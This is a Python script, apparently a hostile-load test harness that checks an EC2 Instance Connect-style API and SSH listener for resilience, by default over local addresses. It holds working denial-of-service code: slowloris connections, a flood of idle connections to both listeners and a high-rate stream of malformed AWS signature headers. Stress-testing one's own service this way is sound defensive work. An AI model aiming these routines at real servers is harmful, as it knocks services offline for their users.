#!/usr/bin/env python3
"""The attacker of scripts/bench-hostile.sh: from one source address, keeps up
  * slowloris connections to the API: a request line, then one header line every INTERVAL s,
    never ending the header section (reconnecting when the server closes one);
  * an idle-connection flood on both listeners: connections that never send a byte
    (reconnecting, with a pause, when the server closes one);
  * junk signatures at a fixed rate over keep-alive connections: unknown access keys, too many
    signed headers, oversized and malformed Authorization values (from a second address, so
    that they are not all refused at the first one's connection cap).
Prints "READY" once the first round of connections is open, and one "ATTACK key=value ..." line
of counts when it stops (SIGTERM, SIGINT or --duration). Standard library only.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import random
import re
import resource
import signal
import sys
import time


def parse_addr(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


class Stats:
    def __init__(self) -> None:
        self.c = collections.Counter()
        self.status = collections.Counter()

    def line(self) -> str:
        parts = [f"{k}={v}" for k, v in sorted(self.c.items())]
        parts.append("junk_status=" + ",".join(f"{k}:{v}" for k, v in sorted(self.status.items())))
        return "ATTACK " + " ".join(parts)


async def open_from(addr: tuple[str, int], source: str):
    return await asyncio.open_connection(addr[0], addr[1], local_addr=(source, 0))


async def slowloris(addr, source, interval, stats: Stats, stop: asyncio.Event, opened: asyncio.Event):
    first = True
    while not stop.is_set():
        try:
            reader, writer = await open_from(addr, source)
        except OSError:
            stats.c["slow_connect_failed"] += 1
            await asyncio.sleep(1)
            continue
        stats.c["slow_opened"] += 1
        if first:
            first = False
            opened.set()
        try:
            writer.write(f"POST / HTTP/1.1\r\nHost: {addr[0]}:{addr[1]}\r\n".encode())
            line = 0
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except asyncio.TimeoutError:
                    line += 1
                    writer.write(f"X-Slow-{line}: {'y' * 8}\r\n".encode())
                    await writer.drain()
                    continue
                if not data:
                    stats.c["slow_closed_by_server"] += 1
                    break
        except OSError:
            stats.c["slow_closed_by_server"] += 1
        finally:
            writer.close()
        await asyncio.sleep(0.5)


async def idle(addr, source, name, stats: Stats, stop: asyncio.Event, opened: asyncio.Event):
    first = True
    while not stop.is_set():
        try:
            reader, writer = await open_from(addr, source)
        except OSError:
            stats.c[f"idle_{name}_connect_failed"] += 1
            await asyncio.sleep(1)
            continue
        stats.c[f"idle_{name}_opened"] += 1
        if first:
            first = False
            opened.set()
        try:
            while not stop.is_set():
                data = await reader.read(4096)  # SSH sends its banner; then EOF when closed
                if not data:
                    stats.c[f"idle_{name}_closed_by_server"] += 1
                    break
        except OSError:
            stats.c[f"idle_{name}_closed_by_server"] += 1
        finally:
            writer.close()
        # Refused at a cap: come back, but not in a busy loop.
        await asyncio.sleep(1)


def junk_request(addr, kind: int) -> bytes:
    now = time.gmtime()
    date, day = time.strftime("%Y%m%dT%H%M%SZ", now), time.strftime("%Y%m%d", now)
    scope = f"{day}/us-east-1/ec2-instance-connect/aws4_request"
    sig = "%064x" % random.getrandbits(256)
    if kind == 0:  # an unknown access key, otherwise perfect
        auth = f"AWS4-HMAC-SHA256 Credential=AKIAJUNK{random.randrange(10**12):012d}/{scope}, SignedHeaders=host;x-amz-date;x-amz-target, Signature={sig}"
    elif kind == 1:  # one signed header over the cap
        names = ";".join(f"x-{i:03d}" for i in range(129))
        auth = f"AWS4-HMAC-SHA256 Credential=AKIAJUNKJUNKJUNK0001/{scope}, SignedHeaders={names}, Signature={sig}"
    elif kind == 2:  # just under the header cap, over the Authorization cap
        auth = f"AWS4-HMAC-SHA256 Credential=AKIAJUNKJUNKJUNK0001/{scope}, SignedHeaders=host, Signature={'a' * 9000}"
    else:  # malformed
        auth = "AWS4-HMAC-SHA256 Credential=, SignedHeaders=;;;;, Signature=zz"
    body = b'{"InstanceId":"i-0123456789abcdef0","SerialPort":0,"SSHPublicKey":"ssh-ed25519 AAAA"}'
    return (
        f"POST / HTTP/1.1\r\nHost: {addr[0]}:{addr[1]}\r\nContent-Type: application/x-amz-json-1.1\r\n"
        "X-Amz-Target: AWSEC2InstanceConnectService.SendSerialConsoleSSHPublicKey\r\n"
        f"X-Amz-Date: {date}\r\nAuthorization: {auth}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body


async def read_response(reader) -> int | None:
    head = await reader.readuntil(b"\r\n\r\n")
    m = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    n = re.search(rb"(?i)\r\ncontent-length:\s*(\d+)", head)
    if n:
        await reader.readexactly(int(n.group(1)))
    return int(m.group(1)) if m else None


async def junk(addr, source, rate: float, stats: Stats, stop: asyncio.Event):
    """One keep-alive connection sending `rate` junk requests a second, reconnecting on close."""
    if rate <= 0:
        return
    period = 1.0 / rate
    next_at = time.monotonic()
    kind = 0
    conn = None
    while not stop.is_set():
        delay = next_at - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)
        next_at += period
        try:
            if conn is None:
                conn = await open_from(addr, source)
            reader, writer = conn
            writer.write(junk_request(addr, kind % 4))
            kind += 1
            await writer.drain()
            status = await asyncio.wait_for(read_response(reader), timeout=5)
            stats.c["junk_sent"] += 1
            stats.status[status] += 1
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError):
            stats.c["junk_connection_lost"] += 1
            if conn:
                conn[1].close()
            conn = None
            next_at = max(next_at, time.monotonic())


async def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--api", required=True, help="HOST:PORT of the API")
    p.add_argument("--ssh", required=True, help="HOST:PORT of the SSH listener")
    p.add_argument("--source", default="127.0.0.2", help="source address of the slowloris and idle connections")
    p.add_argument("--junk-source", default="127.0.0.3", help="source address of the junk-signature requests")
    p.add_argument("--slowloris", type=int, default=100)
    p.add_argument("--interval", type=float, default=1.0, help="seconds between slowloris header lines")
    p.add_argument("--idle", type=int, default=2000, help="idle connections, half to each listener")
    p.add_argument("--junk-rate", type=float, default=200.0, help="junk-signature requests per second")
    p.add_argument("--junk-connections", type=int, default=2)
    p.add_argument("--duration", type=float, default=0, help="seconds; 0: until SIGTERM")
    args = p.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.slowloris + args.idle + args.junk_connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard) if hard != resource.RLIM_INFINITY else want, hard))

    api, ssh = parse_addr(args.api), parse_addr(args.ssh)
    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)

    tasks, first = [], []
    for _ in range(args.slowloris):
        ev = asyncio.Event()
        first.append(ev)
        tasks.append(asyncio.create_task(slowloris(api, args.source, args.interval, stats, stop, ev)))
    for i in range(args.idle):
        ev = asyncio.Event()
        first.append(ev)
        target, name = (api, "api") if i % 2 == 0 else (ssh, "ssh")
        tasks.append(asyncio.create_task(idle(target, args.source, name, stats, stop, ev)))
        if i % 200 == 199:
            await asyncio.sleep(0)  # let the first ones connect while the rest are created
    # READY once every connection has been opened once (or 10 s, whichever first).
    try:
        await asyncio.wait_for(asyncio.gather(*(ev.wait() for ev in first)), timeout=10)
    except asyncio.TimeoutError:
        stats.c["not_ready_after_10s"] = sum(not ev.is_set() for ev in first)
    for _ in range(args.junk_connections):
        tasks.append(asyncio.create_task(junk(api, args.junk_source, args.junk_rate / max(1, args.junk_connections), stats, stop)))
    print("READY", flush=True)
    if args.duration > 0:
        try:
            await asyncio.wait_for(stop.wait(), timeout=args.duration)
        except asyncio.TimeoutError:
            stop.set()
    else:
        await stop.wait()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(stats.line(), flush=True)


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(130)
